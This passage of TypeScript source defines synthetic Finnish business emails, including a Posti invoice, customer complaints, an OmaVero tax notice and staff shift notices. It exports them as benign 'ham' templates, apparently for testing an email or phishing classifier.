// ---------------------------------------------------------------------------------------------------------
// Legitimate: Finnish

const postiInvoice = T('carrier-invoice', 'posti-business-invoice-fi', (r) => {
  const inv = digits(r, 10);
  const amt = amount(r, 300, 9000);
  const d = randomDate(r);
  return {
    from: { name: 'Posti Laskutus', address: 'laskutus@posti.fi' },
    to: pick(r, [BOX.helsinki, addr(CS_LEAD), BOX.ap]),
    subject: pick(r, [`Posti Oy lasku ${inv}`, 'Uusi lasku Postilta']),
    date: d,
    via: 'direct',
    lang: 'fi',
    attachments: [
      {
        filename: `Lasku_${inv}.pdf`,
        type: 'application/pdf',
        content: onePagePdf([
          `Posti Oy – Lasku ${inv}`,
          `Asiakas: ${COMPANY} Suomen sivuliike`,
          `Summa: ${money(amt, 'EUR', 'fi')}`,
          `Eräpäivä: ${day(addDays(d, 14), 'fi')}`,
          `Viite: ${digits(r, 12)}`,
        ]),
      },
    ],
    ...letter({
      style: 'plain',
      parts: parts(r, 0.2, 0.5),
      lang: 'fi',
      blocks: [
        'Hei,',
        `Liitteenä laskunne ${inv}. Eräpäivä on ${day(addDays(d, 14), 'fi')}.`,
        'Laskun erittely löytyy myös Postin yritysasiakkaiden palvelusta.',
        'Ystävällisin terveisin\nPosti Oy\nYritysasiakaspalvelu',
      ],
    }),
  };
});

const fiCustomer = T('customer-message', 'customer-complaint-photos-fi', (r) => {
  const first = pick(r, ['Mikko', 'Laura', 'Antti', 'Sanna', 'Heikki', 'Emilia']);
  const last = pick(r, ['Virtanen', 'Lehtonen', 'Järvinen', 'Salminen', 'Lahtinen']);
  const c = {
    name: `${first} ${last}`,
    address: `${first.toLowerCase()}.${last.toLowerCase().replace(/ä/g, 'a')}@${pick(r, ['gmail.com', 'outlook.com', 'kolumbus.fi', 'icloud.com'])}`,
  };
  const o = orderNo(r);
  const n = int(r, 1, 3);
  return {
    from: c,
    to: pick(r, [BOX.helsinki, addr(CS_FI)]),
    subject: pick(r, [`Tilaus ${o} – vaurioitunut tuote`, `Reklamaatio ${o}`, 'Väärä koko toimitettu']),
    auth: PASS,
    via: clientVia(c.address),
    lang: 'fi',
    attachments: Array.from({ length: n }, (_, i) => ({
      filename: photoName(r, i),
      type: 'image/jpeg',
      content: photoJpeg(r),
    })),
    ...letter({
      style: c.address.endsWith('icloud.com') ? 'apple' : 'gmail',
      parts: parts(r, 0.1, 0.5),
      blocks: [
        'Hei,',
        pick(r, [
          `Sain tilaukseni ${o} eilen, mutta teltan kaari oli katki. Liitteenä kuvat. Voitteko lähettää uuden kaaren tai koko teltan?`,
          `Tilasin kengät koossa 43, mutta paketissa oli koko 41. Kuva laatikon tarrasta liitteenä. Miten toimin palautuksen kanssa?`,
        ]),
        `Kiitos,\n${c.name}`,
      ],
    }),
  };
});

const omaVero = T('authority-notice', 'omavero-message-fi', (r) => {
  return {
    from: { name: 'Verohallinto', address: 'noreply@vero.fi' },
    to: pick(r, [addr(CS_LEAD), addr(CFO)]),
    subject: pick(r, [
      'Sinulle on uusi viesti OmaVerossa',
      'Uusi päätös OmaVerossa',
      'Muistutus: oma-aloitteisten verojen ilmoitus',
    ]),
    via: 'direct',
    lang: 'fi',
    ...letter({
      style: 'plain',
      parts: parts(r, 0.2, 0.5),
      lang: 'fi',
      blocks: [
        'Hei,',
        `${COMPANY} Suomen sivuliikkeelle on saapunut uusi viesti OmaVeroon.`,
        'Kirjaudu OmaVeroon osoitteessa vero.fi/omavero lukeaksesi viestin.',
        {
          small:
            'Verohallinto ei koskaan lähetä sähköpostissa linkkiä, jonka kautta pyydetään pankkitunnuksia. Tähän viestiin ei voi vastata.',
        },
      ],
    }),
  };
});

const fiShifts = T('internal-schedule', 'helsinki-cs-shifts-fi', (r) => {
  const week = int(r, 2, 51);
  const d = randomDate(r);
  return {
    from: addr(CS_LEAD),
    to: [
      addr(CS_FI),
      { name: 'Emma Laaksonen', address: 'emma.laaksonen@corp.example' },
      { name: 'Oskari Nurmi', address: 'oskari.nurmi@corp.example' },
    ],
    subject: pick(r, [
      `Työvuorot viikko ${week}`,
      `Viikon ${week} vuorolista ja Black Friday -valmistelut`,
      'Muutos ensi viikon vuoroihin',
    ]),
    date: d,
    tz: cetOffset(d) + 60,
    via: 'internal',
    lang: 'fi',
    ...letter({
      style: 'outlook',
      parts: parts(r, 0.2, 0.1),
      lang: 'fi',
      blocks: [
        'Moi kaikki,',
        `Viikon ${week} vuorolista on nyt Teamsissa asiakaspalvelun kanavalla. ${pick(r, ['Ruotsinkielisten chattien jono on ollut pitkä, joten Jussi tekee tiistaina iltavuoron.', 'Muistakaa merkitä palautukset Shopifyhin ennen hyvitystä.', 'Torstaina on koulutus uudesta palautusprosessista klo 14.'])}`,
        'Kertokaa jos jotain pitää vaihtaa.',
        `Terveisin\nAino\n${CS_LEAD.title}, ${COMPANY}\n${ORG.helsinki}`,
      ],
    }),
  };
});

export const LOCAL_HAM_23: readonly Template[] = [
  eBoksReal,
  dkCustomer,
  dkRota,
  mobilepaySettlement,
  bringInvoice,
  noCustomer,
  supplierBankNoReal,
  altinn,
  osloInternal,
  postiInvoice,
  fiCustomer,
  omaVero,
  fiShifts,
];
